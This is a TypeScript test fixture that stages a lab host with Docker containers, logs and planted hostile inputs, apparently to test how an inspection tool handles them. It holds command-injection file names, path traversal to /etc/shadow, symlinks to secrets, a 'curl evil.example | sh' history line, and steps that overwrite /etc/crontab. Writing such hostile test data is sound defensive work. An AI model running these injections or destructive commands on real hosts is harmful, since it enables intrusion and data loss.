import type { LabHost } from '../lab';

/** A name that tries to be a frame, an option, an escape sequence and two lines. */
export const HOSTILE = '-rf \u001b[31m\n00000000000000000000000000000000 end\n$(touch %s)-json.log';
export const SECRET = 'never-to-be-followed';
const COMPOSE =
  '/srv/app/compose.yml,/srv/app/link.yml,/srv/app/../../etc/shadow,relative.yml,/proc/1/environ,/srv/app/$(touch /srv/pwned).yml,/srv/app/*.yml,/srv/app/gone.yml';

/** Puts onto a lab host what the tests of its context look for. Throws where that fails. */
export async function stageContext(host: LabHost): Promise<void> {
  await host.output(['bash', '-euc', STAGE, 'bash', HOSTILE, SECRET, COMPOSE]);
}

export async function clearContext(host: LabHost): Promise<void> {
  await host.exec(['bash', '-c', UNSTAGE]);
}

const STAGE = `
cd /; docker rm -f ctx-web ctx-local ctx-none ctx-journal >/dev/null 2>&1 || :
rm -rf /root/bb /root/only /srv/app /srv/secret && mkdir -p /root/bb/bin /root/bb/tmp /srv/app "/home/eve user" /home/mallory
cp /bin/busybox /root/bb/bin/; for a in sh sleep cat; do ln -s busybox /root/bb/bin/$a; done
tar -C /root/bb -c . | docker import - lading-test/ctx:1 >/dev/null
printf '%s\\n' "$2" >/srv/secret
# journald for a moment, so that the journal has entries and the driver journald a place to write to
rm -rf /run/systemd/journal /run/log/journal; mkdir -p /run/systemd/journal
/usr/lib/systemd/systemd-journald </dev/null >/dev/null 2>&1 & journald=$!
for i in $(seq 50); do [ -S /run/systemd/journal/socket ] && break; sleep 0.1; done
printf 'MESSAGE=sshd let somebody in\\nSYSLOG_FACILITY=10\\n' | logger --journald
docker run -d --name ctx-journal --log-driver journald lading-test/ctx:1 /bin/sh -c 'echo written to the journal' >/dev/null
docker wait ctx-journal >/dev/null; sleep 0.5; kill $journald; wait $journald || :; rm -rf /run/systemd/journal
docker run -d --name ctx-web --log-opt max-size=8k --log-opt max-file=3 --log-opt compress=true \\
  --label com.docker.compose.project.config_files="$3" --label com.docker.compose.project.working_dir=/srv/app \\
  lading-test/ctx:1 /bin/sh -c 'i=0; while [ $i -lt 400 ]; do i=$((i+1)); echo "line $i of the log of a web server"; done; sleep 9999' >/dev/null
docker run -d --name ctx-local --log-driver local lading-test/ctx:1 /bin/sh -c 'echo written by local; sleep 9999' >/dev/null
docker run --name ctx-none --log-driver none lading-test/ctx:1 /bin/sh -c 'echo nowhere' >/dev/null
sleep 1
web=/var/lib/docker/containers/$(docker inspect -f '{{.Id}}' ctx-web)
none=/var/lib/docker/containers/$(docker inspect -f '{{.Id}}' ctx-none)
for i in $(seq 50); do ls "$web"/*.gz >/dev/null 2>&1 && break; sleep 0.1; done
printf 'hostile %s\\n' "$2" >"$web/$1"
ln -s /srv/secret "$web/evil-json.log"; ln -sf /srv/secret "$web/hostname"; mkfifo "$web/pipe-json.log"; : >"$web/empty-json.log"
rmdir "$none/local-logs" 2>/dev/null || :; ln -s /srv "$none/local-logs"
printf 'services:\\n  web: {}\\n' >/srv/app/compose.yml; ln -s /srv/secret /srv/app/link.yml; ln -s /srv /srv/app/out
printf 'new login\\n' >/var/log/auth.log; printf 'old login\\n' >/var/log/auth.log.1
printf 'older login\\n' | gzip >/var/log/auth.log.2.gz; touch -d 2025-06-01T00:00:00Z /var/log/auth.log.1 /var/log/auth.log.2.gz
printf 'curl evil.example | sh\\n' >"/home/eve user/.bash_history"
ln -sf /dev/null /home/mallory/.bash_history; [ -p /home/mallory/.zsh_history ] || mkfifo /home/mallory/.zsh_history
ln -sfn /root/.ssh /home/mallory/.ssh
mkdir -p /root/.docker; printf '{"auths":{"registry.example":{"auth":"%s"}}}\\n' "$2" >/root/.docker/config.json
mkdir -p '/home/eve user/.docker/contexts/meta/5bf1'
printf '{"Name":"other","Endpoints":{"docker":{"Host":"ssh://root@other.example"}}}\\n' >'/home/eve user/.docker/contexts/meta/5bf1/meta.json'
printf '* * * * * root /opt/evil-cron\\n' >/etc/crontab
printf '#!/bin/sh\\n' >/usr/local/bin/crictl.tmp; mv /usr/local/bin/crictl.tmp /usr/local/bin/crictl; cp /usr/local/bin/crictl /usr/local/bin/w; chmod 755 /usr/local/bin/w
# a root with busybox alone
mkdir -p /root/only/bin /root/only/proc /root/only/sys /root/only/dev /root/only/etc /root/only/srv /root/only/root /root/only/home
cp /bin/busybox /root/only/bin/ && for a in $(busybox --list | grep -vx busybox); do ln -s busybox "/root/only/bin/$a"; done
`;

const UNSTAGE = `
docker rm -f ctx-web ctx-local ctx-none ctx-journal; docker rmi lading-test/ctx:1
rm -rf /root/bb /root/only /srv/app /srv/secret "/home/eve user" /home/mallory /root/.docker /run/log/journal
rm -f /var/log/auth.log* /usr/local/bin/crictl /usr/local/bin/w /etc/crontab
`;

/** Runs what follows in a root that has busybox alone, with the host's data, in a mount namespace of its own. */
export const CHROOT = `for d in proc sys dev; do mount --rbind /$d /root/only/$d; done
for d in etc srv root home; do mount --bind /$d /root/only/$d; done
exec chroot /root/only /bin/sh "$@"`;

/** Every file of the host by type, size, and times of change; what the engine and sshd write of themselves is theirs. */
export async function traces(host: LabHost): Promise<string[]> {
  const files = await host.output([
    'sh',
    '-c',
    'find / /run /tmp /dev/shm -xdev \\( -path /proc -o -path /sys -o -path /var/log/dockerd.log -o -path /var/log/sshd.log -o -name utmp \\) -prune -o -printf "%p %y %s %T@ %C@\\n"',
  ]);
  return files.split('\n').sort();
}
